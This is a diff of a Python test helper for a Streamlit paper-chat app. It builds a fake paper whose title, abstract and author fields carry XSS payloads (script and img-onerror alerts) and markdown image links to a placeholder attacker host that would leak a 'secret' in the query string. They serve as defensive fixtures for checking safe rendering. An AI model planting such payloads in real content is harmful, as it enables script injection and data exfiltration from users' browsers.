@@ -13,16 +13,17 @@ SCRIPT = "<script>alert(1)</script>"
 IMG = "<img src=x onerror=alert(1)>"
 MD_IMG = f"![x](http://{ATTACKER}/?q=secret)"
 
-# A paper whose every free-text field tries something; the abstract reads as a normal abstract
-# around the payloads so that retrieval and the extractive answer pick its sentences up.
+# A paper whose every free-text field tries something. The payloads sit in sentences of their own
+# so that the clean sentences around them stay quotable: the paper gets cited, and its source text
+# (payloads included) is shown on the chat page.
 EVIL_PAPER: dict[str, Any] = {
     "id": "evil-tomato",
     "title": f"Soft grippers for greenhouse tomato harvesting ![t](http://{ATTACKER}/title.png) <b>now</b>",
     "abstract": (
         "We present a robotic system that harvests ripe tomatoes in greenhouses using soft grippers. "
-        f"{SCRIPT} "
+        f"Demo {SCRIPT} here. "
         "The soft gripper picks ripe tomatoes without bruising them in 95% of greenhouse trials. "
-        f"{IMG} {MD_IMG} "
+        f"Photo {IMG} {MD_IMG} here. "
         "Field trials in three greenhouses confirm that soft grippers harvest tomatoes reliably."
     ),
     "authors": [f"Mallory <img src=x onerror=alert(2)> [m](http://{ATTACKER}/author)", "Eve Example"],
@@ -86,7 +87,7 @@ def add_papers(library: Any, embedder: Any, tmp: Path, *records: dict[str, Any])
 
 
 def app_test(page: str | None = None, timeout: float = 120) -> Any:
-    """A fresh AppTest of the whole app, run once, switched to `page` ("pages/chat.py"...)."""
+    """A fresh AppTest of the whole app, run once, switched to `page` ("views/chat.py"...)."""
     from streamlit.testing.v1 import AppTest
 
     at = AppTest.from_file(str(APP), default_timeout=timeout)
@@ -99,7 +100,9 @@ def app_test(page: str | None = None, timeout: float = 120) -> Any:
 
 
 # --- safety checks over an AppTest tree ---------------------------------------------------------
-_MARKDOWN_TYPES = {"markdown", "caption", "info", "warning", "error", "success", "title", "header", "subheader", "toast"}
+_MARKDOWN_TYPES = {
+    "markdown", "caption", "info", "warning", "error", "success", "title", "header", "subheader", "toast",
+}
 
 
 def markdown_sources(at: Any) -> list[str]:
